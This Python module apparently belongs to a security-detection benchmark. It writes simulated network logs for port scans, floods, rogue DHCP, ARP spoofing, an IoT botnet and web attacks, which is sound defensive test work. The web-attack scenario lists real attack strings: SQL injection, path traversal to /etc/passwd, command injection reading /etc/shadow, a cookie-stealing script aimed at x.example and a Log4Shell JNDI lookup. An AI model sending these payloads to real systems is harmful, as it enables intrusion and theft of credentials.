"""Looking for a way in: scans, guesses, floods, attacks on the portal, false servers."""

from benchmarks.quality.elsewhere_wire.site import Machine
from benchmarks.quality.elsewhere_wire.story import Play, Story, Telling

_TOP = (
    21,
    22,
    23,
    25,
    53,
    80,
    88,
    110,
    111,
    135,
    139,
    143,
    389,
    443,
    445,
    465,
    514,
    587,
    636,
    993,
    1025,
    1433,
    1521,
    1723,
    2049,
    3128,
    3306,
    3389,
    5060,
    5432,
    5900,
    5985,
    6379,
    8000,
    8080,
    8443,
    8888,
    9090,
    9100,
    27017,
)


def _others(p: Play, roles: tuple[str, ...]) -> list[Machine]:
    found = [m for role in roles for m in p.site.by_role[role]]
    p.site.chance.shuffle(found)
    return found


def scan_horizontal(p: Play, level: int) -> Story:
    """One port at many."""
    m, r = p.site.spare("desk"), p.site.chance
    port, gap, count = ((445, 0.02, 500), (3389, 2.0, 120), (445, 45.0, 60))[level]
    begin = ts = p.start(9, 14)
    live = {x.ip for x in _others(p, ("desk", "thin", "file", "dc"))}
    for _ in range(count):
        ts += r.uniform(0.5, 1.5) * gap
        ip = f"10.64.{r.choice((16, 17, 18))}.{r.randrange(1, 255)}"
        if ip in live and r.random() < 0.7:
            p.say.tcp(ts, m, ip, port, None, 0.02, 0, 0, "RSTO")
        else:
            p.say.knock(ts, m, ip, port, "S0" if r.random() < 0.8 else "REJ")
    return p.told("scan horizontal", level, [m], (begin, ts))


def scan_vertical(p: Play, level: int) -> Story:
    """Many ports of one."""
    m, r = p.site.spare("desk"), p.site.chance
    target = p.site.one("file", 1)
    ports = list(range(1, 1025)) if level == 0 else list(_TOP) if level == 1 else r.sample(_TOP, 22)
    begin = ts = p.start(9, 14)
    r.shuffle(ports)
    for port in ports:
        ts += r.uniform(0.5, 1.5) * (0.005, 1.0, 40.0)[level]
        if port in (135, 139, 445, 3389, 5985):
            p.say.tcp(ts, m, target, port, None, 0.01, 0, 0, "RSTO")
        else:
            p.say.knock(ts, m, target, port, "REJ")
    return p.told("scan vertical", level, [m], (begin, ts))


def scan_slow(p: Play, level: int) -> Story:
    """One try in minutes, all day."""
    m, r = p.site.spare("desk"), p.site.chance
    begin, end = p.start(6, 8), p.site.at(25)
    for ts in p.site.every((60, 180, 480)[level], 0.6, begin, end):
        p.say.knock(
            ts,
            m,
            f"10.64.{r.choice((1, 16, 19, 50, 52))}.{r.randrange(1, 255)}",
            r.choice((445, 3389, 22, 80, 443, 1433, 11112)),
            r.choice(("S0", "S0", "REJ")),
        )
    return p.told("scan slow", level, [m], (begin, end))


def flood(p: Play, level: int) -> Story:
    """SYN, then half of it, then many whole requests of a page that costs."""
    r = p.site.chance
    begin = p.start(10, 15)
    target = p.site.one("linux", 1) if level < 2 else p.site.one("portal")
    m = p.site.spare("desk")
    if level < 2:
        for ts in p.site.every((0.02, 0.2)[level], 0.9, begin, begin + 300):
            p.say.knock(ts, m if level else f"10.64.{r.randrange(16, 30)}.{r.randrange(1, 255)}", target, 80)
        return p.told("flood", level, [target, m], (begin, begin + 300))
    for ts in p.site.every(0.25, 0.5, begin, begin + 1200):
        p.note.request(
            ts,
            p.site.public(f"flood {r.randrange(60)}"),
            f"/find-a-doctor?q={r.randrange(10**6)}",
            status=200,
            size=52_000,
            agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        )
    return p.told("flood", level, [target, *(p.site.public(f"flood {k}") for k in range(60))], (begin, begin + 1200))


def web_attack(p: Play, level: int) -> Story:
    """sqlmap, then single tries, then one encoded twice."""
    r, ip = p.site.chance, p.site.public(f"attacker of {p.site.seed}")
    begin = ts = p.start(8, 16)
    tries = (
        "/find-a-doctor?q=1%27%20UNION%20ALL%20SELECT%20NULL,user(),NULL--%20-",
        "/api/results?id=1%20AND%20SLEEP(5)",
        "/static/..%2f..%2f..%2fetc/passwd",
        "/search?q=%3Cscript%3Edocument.location%3D%27//x.example/%27%3C/script%3E",
        "/api/export?file=;cat%20/etc/shadow",
        "/find-a-doctor?q=${jndi:ldap://203.0.113.9/a}",
    )
    for k in range((150, 8, 2)[level]):
        ts += (0.2, 60, 2000)[level] * r.uniform(0.5, 1.5)
        uri = (
            r.choice(tries)
            if level < 2
            else ("/api/results?id=1%2527%2520or%25201%253D1", "/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd")[
                k
            ]
        )
        p.note.request(
            ts, ip, uri, status=r.choice((200, 403, 500)), size=900, agent="sqlmap/1.8.4#stable" if level == 0 else ""
        )
    return p.told("web attack", level, [ip, "172.22.5.20", "stm-portal01"], (begin, ts), (ip,), "logs")


def rogue_dhcp(p: Play, level: int) -> Story:
    """A router that someone plugged in gives out addresses."""
    r, m = p.site.chance, p.site.spare("desk")
    server = ("192.168.1.1", "10.64.16.1", "10.64.16.222")[level]
    begin = ts = p.start(8, 14)
    for k in range((25, 8, 3)[level]):
        ts += r.uniform(60, 400)
        who = r.choice(p.site.by_role["desk"])
        p.say.lease(ts, who.mac, who.name, f"{server.rsplit('.', 1)[0]}.{100 + k}", server)
    return p.told("rogue dhcp", level, [server, m], (begin, ts), (server,))


def arp_spoof(p: Play, level: int) -> Story:
    """Zeek has no log of ARP: a notice of a house's own script, and addresses of the link where they are logged."""
    m, r = p.site.spare("desk"), p.site.chance
    victim = p.site.spare("printer")
    begin = p.start(9, 14)
    for ts in p.site.every((60, 300, 1200)[level], 0.2, begin, begin + 3600):
        p.say.told["notice"].append(
            (
                ts,
                {
                    "ts": ts,
                    "note": "ARPSpoof::Address_Claimed",
                    "msg": f"{m.mac} claims {victim.ip}, which was of {victim.mac}",
                    "src": victim.ip,
                    "actions": ["Notice::ACTION_LOG"],
                    "suppress_for": 3600.0,
                },
            )
        )
        asker = r.choice(p.site.by_role["desk"])
        p.say.tcp(ts + 9, asker, Machine(victim.name, victim.role, victim.ip, m.mac), 9100, None, 2, 30_000, 100)
    return p.told("arp spoofing", level, [m, victim], (begin, begin + 3600))


def botnet(p: Play, level: int) -> Story:
    """A camera that knocks at the internet's telnet and speaks with its master."""
    m, r, ip = p.site.spare("camera"), p.site.chance, p.site.public(f"master {p.site.seed}")
    begin = p.start(7, 12)
    end = begin + (1800, 5400, 6 * 3600)[level]
    for ts in p.site.every((0.1, 2, 60)[level], 0.5, begin, end):
        p.say.knock(
            ts,
            m,
            f"{r.randrange(20, 220)}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}",
            r.choice((23, 23, 2323, 5555)),
            "S0",
        )
    for ts in p.site.every(60, 0.02, begin, end):
        p.say.tcp(ts, m, ip, (48101, 8443, 443)[level], None, 0.2, 60, 60)
    return p.told("iot botnet", level, [m], (begin, end), (ip,), "devices")


ALL: tuple[Telling, ...] = (scan_horizontal, scan_vertical, scan_slow, flood, web_attack, rogue_dhcp, arp_spoof, botnet)
